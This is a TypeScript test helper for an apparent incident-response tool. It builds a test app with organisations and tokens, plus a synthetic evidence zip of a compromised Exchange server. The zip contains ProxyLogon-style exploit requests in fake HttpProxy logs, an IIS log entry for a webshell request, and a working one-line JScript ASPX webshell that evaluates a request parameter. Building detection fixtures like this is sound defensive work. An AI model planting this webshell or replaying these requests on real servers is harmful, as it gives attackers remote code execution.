// Test-only: an app on a fresh database of either kind, with organisations, tokens, and an evidence bundle.

import path from 'node:path';
import type { FastifyInstance } from 'fastify';
import yazl from 'yazl';
import type { Fixture } from '../../store/testing.js';
import { createOrganisation, createToken } from '../../store/index.js';
import type { Role } from '../../store/index.js';
import { createApp } from '../app.js';
import type { AppOptions } from '../app.js';
import { DatabaseStorage, FileStorage } from '../bundles/storage.js';
import type { BundleStorage } from '../bundles/storage.js';
import { PgBossQueue } from '../jobs/pgboss-queue.js';
import type { JobQueue, QueueTuning } from '../jobs/queue.js';
import { SqliteQueue } from '../jobs/sqlite-queue.js';

export interface TestApp {
  app: FastifyInstance;
  queue: JobQueue;
  storage: BundleStorage;
  close(): Promise<void>;
}

/** Short leases and polls so tests that kill workers wait seconds, and many attempts so none runs out. */
const TEST_TUNING: QueueTuning = { leaseSeconds: 2, pollMs: 200, maxAttempts: 10 };

export function testEnv(): Record<string, string> {
  return {
    EXHUNT_JOB_LEASE_SECONDS: String(TEST_TUNING.leaseSeconds),
    EXHUNT_JOB_POLL_MS: String(TEST_TUNING.pollMs),
    EXHUNT_JOB_MAX_ATTEMPTS: String(TEST_TUNING.maxAttempts),
  };
}

async function queueFor(fx: Fixture): Promise<JobQueue> {
  return fx.database ? PgBossQueue.start(fx.database, TEST_TUNING) : new SqliteQueue(fx.store, TEST_TUNING);
}

function storageFor(fx: Fixture): BundleStorage {
  return fx.database
    ? new DatabaseStorage(fx.store, path.join(fx.dataDir, 'work'))
    : new FileStorage(path.join(fx.dataDir, 'bundles'));
}

export async function testApp(fx: Fixture, opts: Partial<AppOptions> = {}): Promise<TestApp> {
  const queue = await queueFor(fx);
  const storage = storageFor(fx);
  const app = await createApp({
    store: fx.store,
    queue,
    storage,
    dataDir: fx.dataDir,
    webRoot: null,
    ...opts,
  });
  return {
    app,
    queue,
    storage,
    async close() {
      await app.close();
      await queue.close();
    },
  };
}

/** An organisation (created if needed) and a bearer header for a token of that role in it. */
export async function tokenFor(
  fx: Fixture,
  org: string | null,
  role: Role,
): Promise<{ authorization: string }> {
  let orgId: number | null = null;
  if (org !== null) {
    const existing = await fx.store.db
      .selectFrom('organisations')
      .select('id')
      .where('name', '=', org)
      .executeTakeFirst();
    orgId = existing?.id ?? (await createOrganisation(fx.store, org, 'test')).id;
  }
  const t = await createToken(fx.store, { name: `${role}@${org ?? '*'}`, role, orgId }, 'test');
  return { authorization: `Bearer ${t.token}` };
}

const INSTALL = 'Program Files/Microsoft/Exchange Server/V15';
const HP_FIELDS =
  'DateTime,RequestId,UrlStem,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method';
const httpProxy = (rows: string[]) =>
  `${HP_FIELDS}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T06:00:00.000Z\r\n#Fields: ${HP_FIELDS}\r\n${rows.join('\r\n')}\r\n`;
const W3C_HEAD =
  '#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-05 03:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n';

/** A compromised server's evidence as a .zip: ProxyLogon in HttpProxy, a webshell on disk and requested. */
export async function evidenceZip(tag = ''): Promise<Buffer> {
  const files: Record<string, string> = {
    [`${INSTALL}/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG`]: httpProxy([
      '2021-03-03T06:49:46.210Z,r2,/ecp/y.js,,ServerInfo~a]@ex.local:444/ecp/proxyLogon.ecp?#,python-requests/2.25.1,198.51.100.9,241,POST',
      '2021-03-03T06:59:20.359Z,r3,/ecp/y.js,,ServerInfo~a]@ex.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abc&schema=ResetOABVirtualDirectory#,python-requests/2.25.1,198.51.100.9,200,POST',
    ]),
    'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log':
      W3C_HEAD +
      '2021-03-05 03:07:00 10.0.0.5 POST /aspnet_client/discover.aspx - 443 - 198.51.100.9 Mozilla/5.0 - 200 0 0 1\r\n',
    'inetpub/wwwroot/aspnet_client/discover.aspx': `<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>${tag}`,
  };
  const z = new yazl.ZipFile();
  for (const [name, text] of Object.entries(files))
    z.addBuffer(Buffer.from(text), name, { mtime: new Date('2021-03-05T03:00:00Z') });
  z.end();
  const parts: Buffer[] = [];
  for await (const c of z.outputStream) parts.push(c as Buffer);
  return Buffer.concat(parts);
}
